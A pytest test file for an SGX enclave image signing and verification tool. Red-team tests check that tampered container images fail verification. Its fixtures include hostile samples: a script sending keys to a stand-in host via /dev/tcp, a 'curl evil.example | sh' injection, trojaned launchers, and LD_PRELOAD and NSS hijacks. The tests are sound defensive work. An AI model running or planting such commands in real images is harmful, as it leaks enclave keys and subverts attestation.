"""build-custom, sign-image and verify over the in-memory engine: no Docker needed.

The images here are what a hostile publisher could push: every red-team
case of issue 10 is built with MemoryEngine.derive and must fail verify
with the problem named, while the genuine image passes.
"""

from __future__ import annotations

import hashlib
import json
import logging
import os
import struct
from pathlib import Path

import pytest

from ppml_image.errors import ImageContentError, ManifestError, PolicyError, UsageError
from ppml_image.images.enclave import custom
from ppml_image.images.enclave import verify as attest
from ppml_image.images.enclave.run import docker_command, plan_run
from ppml_image.images.layout import BASE_ID_LABEL
from ppml_image.testing import (
    MemFile,
    MemoryEngine,
    mem_file,
    mem_link,
    memory_base,
    stand_in_elf,
)

SMALL = {"enclave_size": "256M", "max_threads": "4"}
OS_PY = "/usr/lib/python3.11/os.py"


@pytest.fixture
def signed(mem: MemoryEngine, enclave_key: Path, mem_app: Path) -> custom.CustomImage:
    return custom.build_custom(enclave_key, base="mem/base:1", app=mem_app, tag="mem/app:1",
                               defines=dict(SMALL), date="2025-01-31", quiet=True, engine=mem)


def verify(mem: MemoryEngine, ref: str, **options: object) -> attest.Verification:
    options.setdefault("base", "mem/base:1")  # the pinned base; never a label
    return attest.verify_image(ref, engine=mem, **options)  # type: ignore[arg-type]


def problems(mem: MemoryEngine, ref: str, **options: object) -> str:
    result = verify(mem, ref, **options)
    assert not result.ok, result.checks
    return " | ".join(result.problems)


def manifest_hash(mem: MemoryEngine, ref: str, path: str) -> str:
    text = mem.images[mem.tags[ref]].files["/ppml/python-ml.manifest.sgx"].data or b""
    import tomllib

    for entry in tomllib.loads(text.decode())["sgx"]["trusted_files"]:
        if entry["uri"] == f"file:{path}":
            return str(entry["sha256"])
    raise AssertionError(f"{path} is not a trusted file")


# --------------------------------------------------------------------------
# The genuine image
# --------------------------------------------------------------------------
def test_build_sign_verify(mem: MemoryEngine, signed: custom.CustomImage) -> None:
    result = verify(mem, "mem/app:1", mr_enclave=signed.mr_enclave,
                    mr_signer=signed.mr_signer)
    assert result.ok, result.problems
    assert result.enclave == "python-ml"
    assert result.base_image_id == mem.tags["mem/base:1"]
    assert not result.consistency_only
    assert any("closed world" in c for c in result.checks)
    assert result.outside_checked
    assert set(mem.tags) == {"mem/base:1", "mem/app:1", "mem/app:1-unsigned"}
    assert mem.open_count == 0  # every temporary view of an image was closed


def test_without_expected_values_it_says_consistency_only(mem: MemoryEngine,
                                                          signed: custom.CustomImage) -> None:
    result = verify(mem, "mem/app:1")
    assert result.ok and result.consistency_only
    assert result.to_json()["consistency_only"] is True
    assert result.sigstruct["mr_signer"] == signed.mr_signer


def test_resigning_keeps_mrenclave(mem: MemoryEngine, signed: custom.CustomImage,
                                   second_key: Path) -> None:
    from ppml_image.sgx.signing.signers import PemSigner

    # Any signer: here an open one, as a token would be.
    again = custom.sign_image("mem/app:1-unsigned", PemSigner.load(second_key),
                              tag="mem/app:prod", date="2025-01-31", quiet=True, engine=mem,
        base="mem/base:1")
    assert again.mr_enclave == signed.mr_enclave
    assert again.mr_signer != signed.mr_signer
    assert verify(mem, "mem/app:prod", mr_signer=again.mr_signer).ok


# --------------------------------------------------------------------------
# What runs: the command, the launcher, what runs around the enclave
# --------------------------------------------------------------------------
def test_cmd_running_python_instead(mem: MemoryEngine, signed: custom.CustomImage) -> None:
    mem.derive("mem/app:1", cmd=("python3", "-c", "import os; print(os.listdir('/ppml/keys'))"),
               tag="mem/bad:cmd")
    text = problems(mem, "mem/bad:cmd")
    assert "would run `python3 -c" in text


def test_entrypoint_that_reads_the_keys_first(mem: MemoryEngine,
                                              signed: custom.CustomImage) -> None:
    mem.derive("mem/app:1", {"/usr/local/bin/steal": mem_file(
        b"#!/bin/sh\ncat /ppml/keys/* > /dev/tcp/evil/1; exec \"$@\"\n", 0o755)},
        entrypoint=("/usr/local/bin/steal",), tag="mem/bad:entrypoint")
    text = problems(mem, "mem/bad:entrypoint")
    assert "ENTRYPOINT ['/usr/local/bin/steal'] runs before any enclave" in text


def test_replaced_launcher(mem: MemoryEngine, signed: custom.CustomImage) -> None:
    mem.derive("mem/app:1", {"/usr/bin/gramine-sgx": mem_file(
        b"#!/bin/sh\ncat /ppml/keys/*\nexec /usr/bin/gramine-direct \"$@\"\n", 0o755)},
        tag="mem/bad:launcher")
    text = problems(mem, "mem/bad:launcher")
    assert "/usr/bin/gramine-sgx changed" in text
    assert "the launcher /usr/bin/gramine-sgx is not the base image's own" in text


@pytest.mark.parametrize("case,fragment", [
    ("shadowing launcher", "/usr/local/bin/gramine-sgx added"),
    ("loader", "/usr/lib/x86_64-linux-gnu/gramine/sgx/loader added"),
    ("libc", "/usr/lib/x86_64-linux-gnu/libc.so.6 changed"),
    ("ld.so.preload", "/etc/ld.so.preload added"),
    ("LD_PRELOAD", "config Env differs: +'LD_PRELOAD=/tmp/evil.so'"),
    ("PATH", "config Env differs: +'PATH=/tmp/evil:"),
    ("healthcheck", "config Healthcheck is"),
    ("/lib re-pointed", "/lib changed"),
    ("interpreter", "/usr/bin/sh changed"),
    ("base.json", "/etc/ppml-image/base.json changed"),
    ("nss module", "/usr/lib/libnss_evil.so.2 added"),
    ("nsswitch", "/etc/nsswitch.conf added"),
    ("whiteout", "/usr/lib/python3/dist-packages/six.py removed"),
    ("chmod", "/etc/passwd changed"),
    ("user", "config User is 'nobody'"),
    ("volume", "config Volumes is {'/opt/vol': {}}"),
    ("stop signal", "config StopSignal is 'SIGKILL'"),
    ("shell", "config Shell differs: +'/tmp/evil'"),
    ("ports", "config ExposedPorts is"),
    ("future key", "config SomethingNew is"),
])
def test_what_runs_outside_the_enclave_is_the_base_images(
        mem: MemoryEngine, signed: custom.CustomImage, case: str, fragment: str) -> None:
    evil = mem_file(b"\x7fELF reads /ppml/keys\n", 0o755)
    config: dict[str, object] = {}
    files: dict[str, MemFile | None] = {}
    env = mem.find_image("mem/app:1").env  # type: ignore[union-attr]
    if case == "shadowing launcher":
        files["/usr/local/bin/gramine-sgx"] = evil
    elif case == "loader":
        files["/usr/lib/x86_64-linux-gnu/gramine/sgx/loader"] = evil
    elif case == "libc":
        files["/usr/lib/x86_64-linux-gnu/libc.so.6"] = evil
    elif case == "ld.so.preload":
        files["/etc/ld.so.preload"] = mem_file(b"/tmp/evil.so\n")
    elif case == "LD_PRELOAD":
        config["env"] = (*env, "LD_PRELOAD=/tmp/evil.so")
    elif case == "PATH":
        config["env"] = tuple("PATH=/tmp/evil:" + e[5:] if e.startswith("PATH=") else e
                              for e in env)
    elif case == "healthcheck":
        config["healthcheck"] = {"Test": ["CMD-SHELL", "cat /ppml/keys/*"]}
    elif case == "/lib re-pointed":
        files["/opt/lib/x86_64-linux-gnu/libc.so.6"] = evil
        files["/lib"] = mem_link("/opt/lib")
    elif case == "interpreter":
        files["/usr/bin/sh"] = evil  # gramine-sgx starts with #!/bin/sh
    elif case == "nss module":
        files["/usr/lib/libnss_evil.so.2"] = evil
    elif case == "nsswitch":
        files["/etc/nsswitch.conf"] = mem_file(b"passwd: evil files\n")
    elif case == "whiteout":
        files["/usr/lib/python3/dist-packages/six.py"] = None
    elif case == "chmod":
        files["/etc/passwd"] = mem_file(b"root:x:0:0:root:/root:/bin/sh\n", 0o666)
    elif case == "user":
        config["user"] = "nobody"
    elif case in ("volume", "stop signal", "shell", "ports", "future key"):
        key, value = {"volume": ("Volumes", {"/opt/vol": {}}),
                      "stop signal": ("StopSignal", "SIGKILL"),
                      "shell": ("Shell", ["/tmp/evil", "-c"]),
                      "ports": ("ExposedPorts", {"22/tcp": {}}),
                      "future key": ("SomethingNew", "x")}[case]
        config["config"] = {key: value}
    elif case == "base.json":
        raw = json.loads(mem.images[mem.tags["mem/base:1"]].files[
            "/etc/ppml-image/base.json"].data or b"")
        raw["profile"] = "edited"
        files["/etc/ppml-image/base.json"] = mem_file(json.dumps(raw).encode())
    mem.derive("mem/app:1", files, tag="mem/bad:outside", **config)
    assert fragment in problems(mem, "mem/bad:outside")


def test_labels_pointing_at_genuine_copies_elsewhere(mem: MemoryEngine,
                                                     signed: custom.CustomImage) -> None:
    """The labels say the genuine .sig is elsewhere; the command runs another enclave."""
    genuine = mem.images[mem.tags["mem/app:1"]].files
    mem.derive("mem/app:1", {
        "/genuine/python-ml.sig": genuine["/ppml/python-ml.sig"],
        "/genuine/python-ml.manifest.sgx": genuine["/ppml/python-ml.manifest.sgx"],
        "/ppml/python-ml.manifest.sgx": mem_file(b"libos.entrypoint = \"/bin/sh\"\n"),
        "/ppml/python-ml.sig": None,
    }, labels={"ppml-image.sig": "/genuine/python-ml.sig",
               "ppml-image.manifest-sgx": "/genuine/python-ml.manifest.sgx"},
        tag="mem/bad:labels")
    text = problems(mem, "mem/bad:labels")
    assert "/ppml/python-ml.sig: no such file" in text


def test_a_label_that_disagrees_with_the_content(mem: MemoryEngine,
                                                 signed: custom.CustomImage) -> None:
    mem.derive("mem/app:1", labels={"ppml-image.mr_enclave": "0" * 64}, tag="mem/bad:label")
    assert f"label ppml-image.mr_enclave='{'0' * 64}' but the image says " \
           f"'{signed.mr_enclave}'" in problems(mem, "mem/bad:label")


# --------------------------------------------------------------------------
# Content: tampering, missing and hostile files
# --------------------------------------------------------------------------
def test_tampered_libpal(mem: MemoryEngine, signed: custom.CustomImage) -> None:
    mem.derive("mem/app:1", {"/usr/lib/x86_64-linux-gnu/gramine/sgx/libpal.so":
                             mem_file(stand_in_elf(b"another PAL"), 0o755)}, tag="mem/bad:pal")
    text = problems(mem, "mem/bad:pal")
    assert f"the .sig says {signed.mr_enclave}" in text
    assert "gramine/sgx/libpal.so changed" in text


def test_changed_trusted_file(mem: MemoryEngine, signed: custom.CustomImage) -> None:
    mem.derive("mem/app:1", {"/ppml/app/main.py": mem_file(b"print('exfiltrate')\n")},
               tag="mem/bad:app")
    assert "file:/ppml/app/main.py changed" in problems(mem, "mem/bad:app")


def test_missing_sig(mem: MemoryEngine, signed: custom.CustomImage) -> None:
    mem.derive("mem/app:1", {"/ppml/python-ml.sig": None}, tag="mem/bad:nosig")
    assert "/ppml/python-ml.sig: no such file in the image" in problems(mem, "mem/bad:nosig")


def test_forged_sig_stops_before_measuring(mem: MemoryEngine,
                                           signed: custom.CustomImage) -> None:
    sig = bytearray(mem.images[mem.tags["mem/app:1"]].files["/ppml/python-ml.sig"].data or b"")
    sig[960] ^= 1  # MRENCLAVE, covered by the signature
    mem.derive("mem/app:1", {"/ppml/python-ml.sig": mem_file(bytes(sig))}, tag="mem/bad:forged")
    result = verify(mem, "mem/bad:forged")
    assert result.problems == [r for r in result.problems if "does not verify" in r]
    assert not any("MRENCLAVE" in c for c in result.checks)


def test_huge_sig_is_never_read(mem: MemoryEngine, signed: custom.CustomImage) -> None:
    """A 256 MB (sparse, in a registry) .sig: refused by its size, bounded memory."""
    import tracemalloc

    mem.derive("mem/app:1", {"/ppml/python-ml.sig": MemFile("file", None, size=256 << 20)},
               tag="mem/bad:hugesig")
    tracemalloc.start()
    try:
        text = problems(mem, "mem/bad:hugesig")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "python-ml.sig is 268435456 bytes, more than the 1808-byte limit for it: refused " \
        "before reading it" in text
    assert peak < 64 << 20, peak


@pytest.mark.parametrize("content,fragment", [
    (b"{}", 'no "gramine" object'),
    (b"\xff\xfe garbage", "not valid JSON"),
    (b"[" * 200_000 + b"]" * 200_000, "not valid JSON"),
    (json.dumps({"gramine": {"pkglibdir": "/usr/lib/gramine", "libpal": "/tmp/evil.so",
                             "libsysdb": "/usr/lib/gramine/libsysdb.so",
                             "runtimedir": "/usr/lib/gramine/runtime"}}).encode(),
     "is not inside gramine.pkglibdir"),
    (json.dumps({"gramine": {"pkglibdir": "../x"}}).encode(), "not a clean absolute path"),
])
def test_hostile_base_json(mem: MemoryEngine, signed: custom.CustomImage, content: bytes,
                           fragment: str) -> None:
    mem.derive("mem/app:1", {"/etc/ppml-image/base.json": mem_file(content)},
               tag="mem/bad:basejson")
    assert fragment in problems(mem, "mem/bad:basejson")


def test_deeply_nested_manifest(mem: MemoryEngine, signed: custom.CustomImage) -> None:
    deep = b"x = " + b"[" * 200_000 + b"]" * 200_000 + b"\n"
    mem.derive("mem/app:1", {"/ppml/python-ml.manifest.sgx": mem_file(deep)},
               tag="mem/bad:deep")
    assert "nested more than 64 levels deep" in problems(mem, "mem/bad:deep")


def test_pal_larger_than_the_enclave(mem: MemoryEngine, signed: custom.CustomImage) -> None:
    pal = bytearray(stand_in_elf())
    # The second PT_LOAD's p_memsz (64 + 56 + 40): 2^40 bytes.
    struct.pack_into("<Q", pal, 64 + 56 + 40, 1 << 40)
    mem.derive("mem/app:1", {"/usr/lib/x86_64-linux-gnu/gramine/sgx/libpal.so":
                             mem_file(bytes(pal), 0o755)}, tag="mem/bad:bigpal")
    assert "PAL segments span 1073741836 KiB, which does not fit" in problems(mem, "mem/bad:bigpal")


# --------------------------------------------------------------------------
# The release policy
# --------------------------------------------------------------------------
def test_debug_is_refused_unless_allowed(mem: MemoryEngine, enclave_key: Path, mem_app: Path,
                                         caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, logger="ppml_image"):
        custom.build_custom(enclave_key, base="mem/base:1", app=mem_app, tag="mem/dbg:1",
                            defines={**SMALL, "debug": True}, quiet=True, engine=mem)
    warnings = [r for r in caplog.records if "DEBUG enclave" in r.getMessage()]
    assert len(warnings) == 1  # once, not once per stage
    assert "DEBUG enclave" in problems(mem, "mem/dbg:1")
    assert verify(mem, "mem/dbg:1", allow_debug=True).ok
    with pytest.raises(PolicyError, match=r"sgx.debug = true.*--release"):
        custom.build_custom(enclave_key, base="mem/base:1", app=mem_app, tag="mem/dbg:2",
                            defines={**SMALL, "debug": True}, release=True, quiet=True,
                            engine=mem)
    assert "mem/dbg:2" not in mem.tags and "mem/dbg:2-unsigned" not in mem.tags


def test_release_names_every_violation(mem: MemoryEngine, enclave_key: Path, mem_app: Path,
                                       tmp_path: Path) -> None:
    template = tmp_path / "loose.manifest.j2"
    template.write_text(
        'libos.entrypoint = "{{ python.executable }}"\nfs.mounts = []\n'
        'loader.entrypoint.uri = "file:{{ gramine.libos }}"\n'
        'loader.insecure__use_host_env = true\n'
        'sgx.enclave_size = "256M"\nsgx.max_threads = 4\n'
        'sgx.file_check_policy = "allow_all_but_log"\n'
        'sgx.allowed_files = ["file:/usr/lib/python3.11/"]\n'
        'sgx.trusted_files = ["file:{{ python.executable }}", "file:/ppml/app/"]\n')
    with pytest.raises(PolicyError) as refused:
        custom.build_custom(enclave_key, base="mem/base:1", app=mem_app, tag="mem/loose:1",
                            template=template, release=True, quiet=True, engine=mem)
    for fragment in ("loader.insecure__use_host_env", "sgx.file_check_policy",
                     "sgx.allowed_files[0]", "--release"):
        assert fragment in str(refused.value)
    assert "mem/loose:1" not in mem.tags
    custom.build_custom(enclave_key, base="mem/base:1", app=mem_app, tag="mem/loose:1",
                        template=template, quiet=True, engine=mem)
    text = problems(mem, "mem/loose:1")
    assert "release policy: loader.insecure__use_host_env" in text
    assert "sgx.allowed_files[0]" in text
    assert verify(mem, "mem/loose:1", allow_insecure=True).ok
    assert not verify(mem, "mem/loose:1", allow_debug=True).ok


# --------------------------------------------------------------------------
# sign-image reads every layer; labels are never trusted
# --------------------------------------------------------------------------
def test_derived_unsigned_image_with_a_changed_trusted_file(
        mem: MemoryEngine, signed: custom.CustomImage, enclave_key: Path) -> None:
    """FROM the unsigned image, a changed /usr file, labels inherited: it is measured."""
    trojan = b"import socket  # a changed os module\n"
    mem.derive("mem/app:1-unsigned", {OS_PY: mem_file(trojan)}, tag="mem/derived:1-unsigned")
    result = custom.sign_image("mem/derived:1-unsigned", enclave_key, quiet=True, engine=mem,
        base="mem/base:1")
    assert result.mr_enclave != signed.mr_enclave
    assert manifest_hash(mem, "mem/derived:1", OS_PY) == hashlib.sha256(trojan).hexdigest()
    assert verify(mem, "mem/derived:1").ok


def test_planted_base_label_is_not_a_path(mem: MemoryEngine, signed: custom.CustomImage,
                                          enclave_key: Path) -> None:
    mem.derive("mem/app:1-unsigned", labels={BASE_ID_LABEL: "../../tmp/planted"},
               tag="mem/planted:1-unsigned")
    custom.sign_image("mem/planted:1-unsigned", enclave_key, quiet=True, engine=mem,
        base="mem/base:1")
    real = mem.images[mem.tags["mem/base:1"]].files[OS_PY].data or b""
    assert manifest_hash(mem, "mem/planted:1", OS_PY) == hashlib.sha256(real).hexdigest()
    # A label is never the base: without a pinned one verify says so, --base fixes it.
    assert "no pinned base" in problems(mem, "mem/planted:1", base=None)
    assert verify(mem, "mem/planted:1", base="mem/base:1").ok


def test_a_base_label_naming_an_unrelated_image(mem: MemoryEngine, signed: custom.CustomImage,
                                                gramine_tree: Path) -> None:
    other = memory_base(mem, gramine_tree, tag="mem/otherbase:1")
    other = mem.derive(other, {"/etc/other": mem_file(b"x")})
    mem.derive("mem/app:1", labels={BASE_ID_LABEL: other}, tag="mem/bad:otherbase")
    assert "no pinned base" in problems(mem, "mem/bad:otherbase", base=None)
    assert "does not derive from the pinned base" in problems(mem, "mem/bad:otherbase",
                                                              base=other)


def test_onbuild_triggers_of_a_hostile_base_are_measured(
        mem: MemoryEngine, enclave_key: Path, mem_app: Path, tmp_path: Path) -> None:
    from ppml_image.images.engine.context import BuildContext
    from ppml_image.images.progress import Progress

    # The trigger runs in build-custom's own build: it overwrites a trusted file
    # with the application's main.py.
    trojan = (mem_app / "main.py").read_bytes()
    context = BuildContext()
    context.add_bytes("Dockerfile", b"FROM mem/base:1\nONBUILD COPY app/main.py " +
                      OS_PY.encode() + b"\n")
    hostile = mem.build(context.finish(), what="hostile base", progress=Progress("", quiet=True))
    mem.tag(hostile, "mem/hostile:1")
    custom.build_custom(enclave_key, base="mem/hostile:1", app=mem_app, tag="mem/onbuild:1",
                        defines=dict(SMALL), quiet=True, engine=mem)
    assert manifest_hash(mem, "mem/onbuild:1", OS_PY) == hashlib.sha256(trojan).hexdigest()
    # Pinned to the base it was built FROM, the trigger's change is a trusted file's.
    assert verify(mem, "mem/onbuild:1", base="mem/hostile:1").ok


def test_sign_image_refuses_onbuild_triggers(mem: MemoryEngine, signed: custom.CustomImage,
                                             enclave_key: Path) -> None:
    mem.derive("mem/app:1-unsigned", onbuild=("COPY x /usr/bin/gramine-sgx",),
               tag="mem/trigger:1-unsigned")
    with pytest.raises(ImageContentError, match="ONBUILD"):
        custom.sign_image("mem/trigger:1-unsigned", enclave_key, quiet=True, engine=mem,
        base="mem/base:1")


@pytest.mark.parametrize("config", [
    {"cmd": ("gramine-sgx", "x\nRUN curl evil.example | sh")},
    {"cmd": ("gramine-sgx", "python-ml"), "workdir": "/ppml\nRUN touch /pwned"},
    {"cmd": ("gramine-sgx", "../../etc/x")},
    {"cmd": ("gramine-sgx", "-v")},
])
def test_enclave_names_cannot_inject_into_the_final_build(
        mem: MemoryEngine, signed: custom.CustomImage, enclave_key: Path,
        config: dict[str, object]) -> None:
    mem.derive("mem/app:1-unsigned", tag="mem/inject:1-unsigned", **config)
    with pytest.raises(ImageContentError, match="plain path"):
        custom.sign_image("mem/inject:1-unsigned", enclave_key, quiet=True, engine=mem,
        base="mem/base:1")
    assert "plain path" in problems(mem, "mem/inject:1-unsigned")


def test_sign_image_refuses_an_image_that_runs_something_else(
        mem: MemoryEngine, signed: custom.CustomImage, enclave_key: Path) -> None:
    mem.derive("mem/app:1-unsigned", cmd=("python3", "/ppml/app/main.py"),
               tag="mem/nolauncher:1-unsigned")
    with pytest.raises(ImageContentError, match=r"would run `python3 /ppml/app/main\.py`"):
        custom.sign_image("mem/nolauncher:1-unsigned", enclave_key, quiet=True, engine=mem,
        base="mem/base:1")
    assert "mem/nolauncher:1" not in mem.tags


def test_non_utf8_file_name_in_app(mem: MemoryEngine, enclave_key: Path,
                                   tmp_path: Path) -> None:
    folder = tmp_path / "app"
    folder.mkdir()
    (folder / "main.py").write_text("print(1)\n")
    with open(os.path.join(os.fsencode(folder), b"caf\xe9.py"), "w") as handle:  # Latin-1
        handle.write("x\n")
    with pytest.raises(UsageError, match=r"caf\\xe9.py: file name is not UTF-8"):
        custom.build_custom(enclave_key, base="mem/base:1", app=folder, tag="mem/name:1",
                            defines=dict(SMALL), quiet=True, engine=mem)


# --------------------------------------------------------------------------
# run: one plan, printed and executed
# --------------------------------------------------------------------------
def test_print_and_run_use_one_plan(mem: MemoryEngine, signed: custom.CustomImage,
                                    tmp_path: Path) -> None:
    keys = tmp_path / "keys"
    keys.mkdir()
    plan = plan_run("mem/app:1", sgx=True, keys=keys, check_host=False, engine=mem)
    args = docker_command(plan)
    assert args[:5] == ["docker", "run", "--rm", "--network", "host"]
    assert f"{keys}:/ppml/keys:ro" in args
    assert "/dev/sgx_enclave:/dev/sgx_enclave:rwm" in args
    assert "-i" not in args and "-t" not in args
    native = plan_run("mem/app:1", sgx=False, engine=mem)
    assert native.command == ("python3", "/ppml/app/main.py")
    assert docker_command(native)[-3:] == ["mem/app:1", "python3", "/ppml/app/main.py"]


def test_non_utf8_file_name_in_a_trusted_folder_of_the_image(
        mem: MemoryEngine, signed: custom.CustomImage, enclave_key: Path) -> None:
    name = b"/ppml/app/caf\xe9.py".decode("utf-8", "surrogateescape")
    mem.derive("mem/app:1-unsigned", {name: mem_file(b"x = 1\n")}, tag="mem/latin1:1-unsigned")
    with pytest.raises(ManifestError, match=r"/ppml/app/caf\\xe9.py: file name is not UTF-8"):
        custom.sign_image("mem/latin1:1-unsigned", enclave_key, quiet=True, engine=mem,
        base="mem/base:1")


def test_sign_image_release_refuses_a_debug_image(mem: MemoryEngine, enclave_key: Path,
                                                  mem_app: Path) -> None:
    custom.build_custom(enclave_key, base="mem/base:1", app=mem_app, tag="mem/dbg:1",
                        defines={**SMALL, "debug": True}, quiet=True, engine=mem)
    with pytest.raises(PolicyError, match=r"sgx.debug = true.*--release"):
        custom.sign_image("mem/dbg:1-unsigned", enclave_key, tag="mem/dbg:release",
                          release=True, quiet=True, engine=mem,
        base="mem/base:1")
    assert "mem/dbg:release" not in mem.tags


def test_only_the_engine_module_imports_docker_and_sgx_never_images() -> None:
    import ast

    import ppml_image

    root = Path(ppml_image.__file__).parent
    for source in root.rglob("*.py"):
        imported = set()
        for node in ast.walk(ast.parse(source.read_text())):
            if isinstance(node, ast.Import):
                imported |= {alias.name for alias in node.names}
            elif isinstance(node, ast.ImportFrom) and node.module:
                imported.add(node.module)
        rel = source.relative_to(root).as_posix()
        if rel != "images/engine/core.py":
            assert not any(m == "docker" or m.startswith("docker.") for m in imported), rel
        if rel.startswith("sgx/"):
            assert not any(m.startswith("ppml_image.images") for m in imported), rel


# --------------------------------------------------------------------------
# Issue 17: a pinned base, never a label; the record; the offline step
# --------------------------------------------------------------------------
def _attacker_base(mem: MemoryEngine) -> str:
    """FROM the real base, a trojaned gramine-sgx; the app rebuilt on it with /ppml as is."""
    trojan = mem.derive("mem/base:1", {"/usr/bin/gramine-sgx": mem_file(
        b"#!/usr/bin/env bash\ncat /ppml/keys/* >&2\nexit 0\n", 0o755)}, tag="mem/evil:1")
    genuine = mem.images[mem.tags["mem/app:1"]].files
    app = {p: e for p, e in genuine.items() if p.startswith("/ppml")}
    return mem.derive(trojan, app, cmd=("gramine-sgx", "python-ml"), workdir="/ppml",
                      labels={BASE_ID_LABEL: trojan}, tag="mem/bad:evilbase")


def test_a_label_naming_an_attacker_base_is_never_trusted(
        mem: MemoryEngine, signed: custom.CustomImage) -> None:
    _attacker_base(mem)
    # The label names a base that is on the engine and from which the image derives:
    # still no pinned base, so what runs outside was not checked: exit 3 by default.
    text = problems(mem, "mem/bad:evilbase", base=None, mr_enclave=signed.mr_enclave)
    assert "no pinned base" in text and "--allow-unpinned-base" in text
    # With the genuine base pinned, the trojaned launcher is named.
    text = problems(mem, "mem/bad:evilbase", mr_enclave=signed.mr_enclave)
    assert "/usr/bin/gramine-sgx changed" in text


def test_allow_unpinned_base_checks_the_enclave_only_and_says_so(
        mem: MemoryEngine, signed: custom.CustomImage) -> None:
    result = verify(mem, "mem/app:1", base=None, allow_unpinned_base=True)
    assert result.ok and not result.outside_checked
    assert any(c.startswith("NOT CHECKED: what runs outside") for c in result.checks)
    assert result.to_json()["outside_checked"] is False


def test_the_record_pins_the_base_and_the_expected_values(
        mem: MemoryEngine, signed: custom.CustomImage, tmp_path: Path) -> None:
    record = tmp_path / "m.json"
    custom.write_measurements(signed, record)
    result = verify(mem, "mem/app:1", base=None, record=record)
    assert result.ok and result.outside_checked and not result.consistency_only
    # The same record against the attacker-based image: its launcher is named.
    _attacker_base(mem)
    assert "/usr/bin/gramine-sgx changed" in problems(mem, "mem/bad:evilbase", base=None,
                                                      record=record)


def test_a_record_with_a_duplicated_key_is_refused(mem: MemoryEngine,
                                                   signed: custom.CustomImage,
                                                   tmp_path: Path) -> None:
    record = tmp_path / "dup.json"
    base_id = mem.tags["mem/base:1"]
    record.write_text(f'{{"base_image_id": "{base_id}", "base_image_id": "{base_id}"}}')
    with pytest.raises(UsageError, match="key 'base_image_id' appears twice"):
        verify(mem, "mem/app:1", base=None, record=record)


def test_sign_image_refuses_without_a_pinned_base_or_a_non_derived_image(
        mem: MemoryEngine, signed: custom.CustomImage, enclave_key: Path,
        gramine_tree: Path) -> None:
    with pytest.raises(UsageError, match="needs the pinned base"):
        custom.sign_image("mem/app:1-unsigned", enclave_key, tag="mem/x:1", quiet=True,
                          engine=mem)
    memory_base(mem, gramine_tree, tag="mem/otherbase:1")
    other = mem.derive("mem/otherbase:1", {"/etc/other": mem_file(b"x")}, tag="mem/other:1")
    assert other
    from ppml_image.errors import VerificationError

    with pytest.raises(VerificationError, match="does not derive from the pinned base"):
        custom.sign_image("mem/app:1-unsigned", enclave_key, tag="mem/x:1", quiet=True,
                          engine=mem, base="mem/other:1")
    assert "mem/x:1" not in mem.tags


def test_sign_image_refuses_an_unsigned_variant_with_an_nss_module(
        mem: MemoryEngine, signed: custom.CustomImage, enclave_key: Path) -> None:
    from ppml_image.errors import VerificationError

    mem.derive("mem/app:1-unsigned", {
        "/usr/lib/libnss_evil.so.2": mem_file(b"\x7fELF evil\n", 0o755),
        "/etc/nsswitch.conf": mem_file(b"passwd: evil files\n")}, tag="mem/nss:1-unsigned")
    with pytest.raises(VerificationError) as refused:
        custom.sign_image("mem/nss:1-unsigned", enclave_key, quiet=True, engine=mem,
                          base="mem/base:1")
    assert "/etc/nsswitch.conf added" in str(refused.value)
    assert "/usr/lib/libnss_evil.so.2 added" in str(refused.value)
    assert "mem/nss:1" not in mem.tags


def test_the_offline_signature_goes_onto_the_exported_image_only(
        mem: MemoryEngine, signed: custom.CustomImage, tmp_path: Path,
        enclave_key: Path) -> None:
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import padding

    from ppml_image.errors import VerificationError
    from ppml_image.sgx.signing.external import ExternalSignature

    data = tmp_path / "job.tbs"
    custom.export_signing_data("mem/app:1-unsigned", data, date="2025-01-31", quiet=True,
                               engine=mem, base="mem/base:1")
    record = Path(str(data) + ".json")
    written = json.loads(record.read_text())
    assert written["unsigned_image_id"] == mem.tags["mem/app:1-unsigned"]
    assert written["base_image_id"] == mem.tags["mem/base:1"]
    key = serialization.load_pem_private_key(enclave_key.read_bytes(), None)
    signature = key.sign(data.read_bytes(), padding.PKCS1v15(), hashes.SHA256())  # type: ignore[union-attr,call-arg]
    # The same enclave on another image (an extra, unmeasured layer): refused.
    mem.derive("mem/app:1-unsigned", {"/etc/motd": mem_file(b"hi\n")},
               tag="mem/other:1-unsigned")
    with pytest.raises(VerificationError, match="records the measured image"):
        custom.sign_image("mem/other:1-unsigned",
                          ExternalSignature(key.public_key(), signature),  # type: ignore[union-attr,arg-type]
                          tag="mem/other:1", date="2025-01-31", quiet=True, engine=mem,
                          record=record)
    # Without the record, the offline step is refused before any work.
    with pytest.raises(UsageError, match="--record"):
        custom.sign_image("mem/app:1-unsigned",
                          ExternalSignature(key.public_key(), signature),  # type: ignore[union-attr,arg-type]
                          tag="mem/app:offline", date="2025-01-31", quiet=True, engine=mem,
                          base="mem/base:1")
    # With it, onto the exported image: assembled.
    assembled = custom.sign_image("mem/app:1-unsigned",
                                  ExternalSignature(key.public_key(), signature),  # type: ignore[union-attr,arg-type]
                                  tag="mem/app:offline", date="2025-01-31", quiet=True,
                                  engine=mem, record=record)
    assert assembled.mr_enclave == signed.mr_enclave


def test_run_with_keys_verifies_first_and_refuses_symlinked_targets(
        mem: MemoryEngine, signed: custom.CustomImage, tmp_path: Path) -> None:
    from ppml_image.errors import VerificationError
    from ppml_image.images.enclave.run import Expected

    keys = tmp_path / "keys"
    keys.mkdir()
    _attacker_base(mem)
    # No pinned base: run --keys refuses, as verify does.
    with pytest.raises(VerificationError, match="no pinned base"):
        plan_run("mem/bad:evilbase", sgx=False, keys=keys, engine=mem)
    with pytest.raises(VerificationError, match="gramine-sgx changed"):
        plan_run("mem/bad:evilbase", sgx=False, keys=keys, engine=mem,
                 expected=Expected(base="mem/base:1"))
    # Verified: runs the verified image by id, with the measured argv.
    plan = plan_run("mem/app:1", sgx=False, keys=keys, engine=mem,
                    expected=Expected(base="mem/base:1"))
    assert plan.image == mem.tags["mem/app:1"]
    # A command of one's own next to the keys is refused.
    with pytest.raises(UsageError, match="nobody measured"):
        plan_run("mem/app:1", sgx=False, keys=keys, engine=mem, command=["sh"],
                 expected=Expected(base="mem/base:1"))
    # /ppml/data symlinked to a folder on PATH: --data is refused.
    mem.derive("mem/app:1", {"/ppml/data": mem_link("/usr/local/bin")}, tag="mem/bad:datalink")
    with pytest.raises(VerificationError, match="/ppml/data is a symlink"):
        plan_run("mem/bad:datalink", sgx=False, data=keys, engine=mem)


def test_no_sgx_runs_the_argv_of_the_measured_manifest(
